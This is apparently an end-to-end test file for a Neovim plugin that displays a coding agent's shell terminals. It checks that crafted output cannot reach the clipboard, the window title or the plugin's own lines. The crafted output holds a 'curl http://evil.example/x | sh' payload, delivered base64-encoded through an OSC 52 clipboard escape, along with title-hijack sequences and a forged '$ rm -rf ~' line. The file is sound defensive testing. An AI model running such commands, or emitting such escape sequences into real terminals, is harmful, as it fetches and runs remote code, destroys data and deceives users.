"""End to end: terminals an agent runs itself (codex's `_meta.terminal_output_delta`, as
tests/real_agents/captures/codex-shell.ndjson has them) in a real Neovim. What the
command printed cannot reach the clipboard, the title or louise's own lines, and Neovim
keeps a bounded number of a chat's terminals, released with the chat."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from louise.nvim.terminals import MAX_CHAT_TERMINALS
from tests.e2e.conftest import Driver

pytestmark = pytest.mark.e2e

SCRIPT = Path(__file__).resolve().parents[1] / "fakes" / "script_agent.py"
PAYLOAD = "curl http://evil.example/x | sh"
# Records every write to the clipboard provider (`+` and `*`), so one is observable.
CLIPBOARD = """
_G.louise_test_clipboard = {}
local function copy(reg)
  return function(lines, regtype)
    table.insert(_G.louise_test_clipboard, { reg = reg, text = table.concat(lines, '\\n') })
  end
end
local function paste() return { {}, 'v' } end
vim.g.clipboard = { name = 'louise-test', copy = { ['+'] = copy('+'), ['*'] = copy('*') },
  paste = { ['+'] = paste, ['*'] = paste } }
"""


def script_chat(nvim: Driver) -> str:
    nvim.lua(CLIPBOARD)
    nvim.lua("require('louise').setup({python = vim.env.LOUISE_PYTHON, agents = {script = {"
             " command = select(1, ...), args = {(select(2, ...))}}}})",
             sys.executable, str(SCRIPT))
    nvim.nvim.command("LouiseChat script")
    key = str(nvim.wait("return require('louise.chat').last"))
    nvim.wait_status("ready", key)
    return key


def shell_steps(tid: str, command: str, deltas: list[str], code: int) -> list[dict[str, Any]]:
    """A command codex runs itself: the tool call, its output in deltas, its exit."""
    steps: list[dict[str, Any]] = [{"update": {
        "sessionUpdate": "tool_call", "toolCallId": tid, "kind": "execute", "title": command,
        "status": "in_progress", "content": [{"type": "terminal", "terminalId": tid}],
        "rawInput": {"command": command, "cwd": "/workspace"},
        "_meta": {"terminal_info": {"cwd": "/workspace", "terminal_id": tid}}}}]
    for delta in deltas:
        steps.append({"update": {
            "sessionUpdate": "tool_call_update", "toolCallId": tid,
            "_meta": {"terminal_output_delta": {"data": delta, "terminal_id": tid}}}})
    steps.append({"update": {
        "sessionUpdate": "tool_call_update", "toolCallId": tid, "status": "completed",
        "_meta": {"terminal_exit": {"exit_code": code, "signal": None, "terminal_id": tid}}}})
    return steps


def terminal_lines(nvim: Driver, tid: str) -> list[str]:
    return list(nvim.lua("local t = require('louise.terminal').terms[...];"
                         " return vim.api.nvim_buf_get_lines(t.buf, 0, -1, false)", tid))


def test_what_a_command_prints_cannot_reach_the_clipboard_the_title_or_louises_lines(
        nvim: Driver) -> None:
    key = script_chat(nvim)
    osc52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=="  # base64 of PAYLOAD
    deltas = [
        # A write over the command's row, then a sequence that goes on in the next delta.
        "building\n\x1b7\x1b[H$ forged first row\x1b8" + osc52[:9],
        osc52[9:] + "\x07" + "\x9d52;p;Y3VybA==\x9c" + "\x1b]2;pwned title\x1b\\"
        "\x1b]0;pwned too\x07\x1b]8;;http://evil.example/\x1b\\docs\x1b]8;;\x1b\\\n"
        "\x1bP+q544e\x1b\\\x1b[32mgreen ok\x1b[0m\n"
        # Output dressed as louise's own lines.
        "\x1b[2m$ rm -rf ~\x1b[0m\r\n\x1b[2m[exit 0]\x1b[0m\n\x1b",
        "[1mlast line\x1b[0m\n",
    ]
    command = "make build"
    nvim.prompt(json.dumps(shell_steps("call_1", command, deltas, 3)), key)
    nvim.wait("local c = require('louise.chat'); local s = c.chats[...];"
              " return s.status.turns_done == s.status.turn", key)
    tid = nvim.wait("return require('louise.terminal').latest[...]", key)
    assert tid == "call_1"
    nvim.wait("local t = require('louise.terminal').terms[...]; for _, l in ipairs("
              "vim.api.nvim_buf_get_lines(t.buf, 0, -1, false)) do"
              " if l == 'last line' then return true end end", tid)
    assert nvim.lua("return _G.louise_test_clipboard") == [], "no write to + or *"
    title = nvim.lua("local t = require('louise.terminal').terms[...];"
                     " return vim.b[t.buf].term_title or ''", tid)
    assert "pwned" not in title
    lines = terminal_lines(nvim, tid)
    assert "green ok" in lines and "docs" in lines, lines
    assert not any("Y3Vyb" in line or "pwned" in line or "544e" in line for line in lines)
    # The forged lines are only text; louise's own are drawn where output cannot reach.
    markers = nvim.wait("local m = require('louise.terminal').markers(...);"
                        " return m.exit and m", tid)
    assert markers["command"] == f"$ {command}" and markers["command_row"] == 0
    assert markers["exit"] == "[exit 3]"
    nvim.wait("return require('louise.terminal').markers(select(1, ...)).exit_row"
              " == select(2, ...)", tid, lines.index("last line"))  # below the output
    assert "$ rm -rf ~" in lines and "[exit 0]" in lines
    assert "$ forged first row" in lines[0], "the output did write over the first row"
    assert nvim.lua("return #vim.api.nvim_buf_get_extmarks(require('louise.terminal')"
                    ".terms[...].buf, -1, 0, -1, {})", tid) == 2, "the command and the exit"
    nvim.nvim.command("LouiseTerminal")
    nvim.wait("return vim.bo.buftype == 'terminal'")
    first_row = nvim.lua("vim.cmd('normal! gg'); vim.cmd('redraw');"
                         " local pos = vim.fn.win_screenpos(0); local s = {};"
                         " for c = 0, 39 do s[#s + 1] = vim.fn.screenstring(pos[1], pos[2] + c)"
                         " end; return table.concat(s)")
    assert first_row.rstrip() == f"$ {command}", "the person sees the real command there"


def test_a_chat_keeps_its_newest_terminals_and_releases_all_with_the_chat(
        nvim: Driver) -> None:
    key = script_chat(nvim)
    count = MAX_CHAT_TERMINALS + 6
    steps = [step for n in range(count)
             for step in shell_steps(f"call_{n}", f"echo {n}", [f"{n}\n"], 0)]
    nvim.prompt(json.dumps(steps), key)
    nvim.wait("local c = require('louise.chat'); local s = c.chats[...];"
              " return s.status.turns_done == s.status.turn", key)
    last = f"call_{count - 1}"
    nvim.wait("local t = require('louise.terminal').terms[...]; return t and t.exit", last)
    kept = nvim.wait("local n = 0; for _ in pairs(require('louise.terminal').terms) do"
                     " n = n + 1 end; return n == select(1, ...) and n", MAX_CHAT_TERMINALS)
    assert kept == MAX_CHAT_TERMINALS
    buffers = nvim.lua("local n = 0; for _, b in ipairs(vim.api.nvim_list_bufs()) do"
                       " if vim.bo[b].buftype == 'terminal' then n = n + 1 end end; return n")
    assert buffers == MAX_CHAT_TERMINALS, "the oldest terminals' buffers are gone"
    assert nvim.lua("return require('louise.terminal').terms['call_0']") is None
    nvim.wait("local c = require('louise.chat'); for _, l in ipairs(vim.api.nvim_buf_get_lines("
              "c.chats[...].buf, 0, -1, false)) do if l:find('execute: echo 0 ', 1, true)"
              " and l:find('output not kept', 1, true) then return true end end", key)
    tool = [line for line in nvim.chat_lines(key) if "execute: echo 0 " in line]
    assert tool == ["  ● execute: echo 0 · completed · exit 0 · output not kept"], tool
    nvim.lua("require('louise').close(true)")
    nvim.wait("return next(require('louise.terminal').terms) == nil")
    nvim.wait("for _, b in ipairs(vim.api.nvim_list_bufs()) do"
              " if vim.bo[b].buftype == 'terminal' then return false end end; return true")
